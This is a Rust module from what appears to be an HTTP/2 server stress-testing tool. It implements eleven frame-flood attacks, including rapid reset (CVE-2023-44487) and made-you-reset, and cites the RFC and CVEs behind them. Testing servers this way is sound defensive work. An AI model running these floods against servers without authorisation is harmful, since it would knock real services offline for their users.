//! Floods of HTTP/2 frames on a few connections, as fast as the server takes them.
//!
//! A server may close at any frame, or take them all: what counts is what other clients notice.
//! Source: RFC 9113 §10.5; CVE-2019-9511 to 9518, CVE-2023-44487 (rapid reset), CVE-2025-8671 (made you reset).

use std::time::Duration;

use futures_util::future::{join_all, try_join_all};

use crate::wire::{
    END_HEADERS, END_STREAM, FRAME_BYTES, Http2, PADDED, call, frame, headers, kind, request, setting, stream,
};
use crate::{Attack, Fault, Form, Load, Target, attack};

pub(crate) const ALL: &[Attack] = &[
    Attack::quick("settings-flood", attack!(settings)),
    Attack::quick("ping-flood", attack!(pings)),
    Attack::quick("unread-ping-flood", attack!(unread_pings)),
    Attack::quick("rapid-reset", attack!(rapid_reset)),
    Attack::quick("made-you-reset", attack!(made_you_reset)),
    Attack::quick("too-many-streams", attack!(too_many_streams)),
    Attack::quick("empty-data", attack!(empty_data)),
    Attack::quick("priority-flood", attack!(priorities)),
    Attack::quick("goaway-flood", attack!(goaways)),
    Attack::quick("unknown-frames", attack!(unknown)),
    Attack::quick("window-update-flood", attack!(window_updates)),
];

/// A server that takes nothing for this long has stopped the flood.
const PATIENCE: Duration = Duration::from_secs(2);

/// Connections of a flood.
fn connections(form: Form) -> u64 {
    form.count(2, 16)
}

/// Frames on each of them.
fn frames(form: Form) -> u64 {
    form.count(500, 50_000)
}

/// Pours `chunk` into a few connections, behind `first`.
async fn flood(
    target: &Target,
    form: Form,
    first: &[u8],
    chunk: impl Fn(u64) -> Vec<u8> + Copy,
) -> Result<Load, Fault> {
    let one = async || {
        let mut connection = Http2::open(target, &[]).await?;
        // An error is the server's answer.
        let _ = connection.send(first).await;
        Ok::<_, Fault>(connection.pour_and_read(frames(form), PATIENCE, chunk).await)
    };
    let sent = opened(join_all((0..connections(form)).map(|_| one())).await)?;
    Ok(Load { connections: connections(form), attempts: sent.iter().sum() })
}

/// What was sent where a connection was let in; the reason, if none was.
fn opened(all: Vec<Result<u64, Fault>>) -> Result<Vec<u64>, Fault> {
    let (sent, refused): (Vec<_>, Vec<_>) = all.into_iter().partition(Result::is_ok);
    let sent: Vec<u64> = sent.into_iter().flatten().collect();
    match refused.into_iter().find_map(Result::err) {
        Some(fault) if sent.is_empty() => Err(fault),
        _ => Ok(sent),
    }
}

async fn settings(target: Target, form: Form) -> Result<Load, Fault> {
    let few = frame(kind::SETTINGS, 0, 0, &setting(4, 1000));
    let many = frame(kind::SETTINGS, 0, 0, &setting(1, 0).repeat(FRAME_BYTES / 6));
    flood(&target, form, &[], |number| if number % 64 == 0 { many.clone() } else { few.clone() }).await
}

async fn pings(target: Target, form: Form) -> Result<Load, Fault> {
    flood(&target, form, &[], |number| frame(kind::PING, 0, 0, &number.to_be_bytes())).await
}

/// Answers that nobody reads.
async fn unread_pings(target: Target, form: Form) -> Result<Load, Fault> {
    let one = async || {
        let mut connection = Http2::open(&target, &[]).await?;
        let ping = frame(kind::PING, 0, 0, &[0; 8]).repeat(100);
        Ok::<_, Fault>(connection.pour(frames(form), PATIENCE, |_| ping.clone()).await.saturating_mul(100))
    };
    let sent = try_join_all((0..connections(form)).map(|_| one())).await?;
    Ok(Load { connections: connections(form), attempts: sent.iter().sum() })
}

async fn rapid_reset(target: Target, form: Form) -> Result<Load, Fault> {
    let path = target.port.path();
    let cancel = 8_u32.to_be_bytes();
    flood(&target, form, &[], |number| {
        let stream = stream(number);
        [call(stream, path), frame(kind::RST_STREAM, 0, stream, &cancel)].concat()
    })
    .await
}

/// The server resets each stream itself: its window is moved by nothing.
async fn made_you_reset(target: Target, form: Form) -> Result<Load, Fault> {
    let path = target.port.path();
    flood(&target, form, &[], |number| {
        let stream = stream(number);
        [headers(stream, &request(path), false), frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
    })
    .await
}

/// Requests that do not end, far beyond the number of streams that the server takes.
async fn too_many_streams(target: Target, form: Form) -> Result<Load, Fault> {
    let path = target.port.path();
    flood(&target, form, &[], |number| headers(stream(number), &request(path), false)).await
}

async fn empty_data(target: Target, form: Form) -> Result<Load, Fault> {
    let begun = headers(1, &request(target.port.path()), false);
    // Without a byte, and with nothing but padding.
    let padded = frame(kind::DATA, PADDED, 1, &[255; 256]);
    flood(
        &target,
        form,
        &begun,
        |number| {
            if number % 16 == 0 { padded.clone() } else { frame(kind::DATA, 0, 1, &[]) }
        },
    )
    .await
}

async fn priorities(target: Target, form: Form) -> Result<Load, Fault> {
    flood(&target, form, &[], |number| frame(kind::PRIORITY, 0, stream(number), &[0, 0, 0, 0, 16])).await
}

async fn goaways(target: Target, form: Form) -> Result<Load, Fault> {
    flood(&target, form, &[], |_| frame(kind::GOAWAY, 0, 0, &[0; 1024])).await
}

async fn unknown(target: Target, form: Form) -> Result<Load, Fault> {
    flood(&target, form, &[], |number| {
        let kind = u8::try_from(number % 200).unwrap_or_default().saturating_add(20);
        frame(kind, END_STREAM | END_HEADERS, stream(number % 100), &[0; 512])
    })
    .await
}

/// One byte more each time.
async fn window_updates(target: Target, form: Form) -> Result<Load, Fault> {
    flood(&target, form, &[], |_| frame(kind::WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes())).await
}
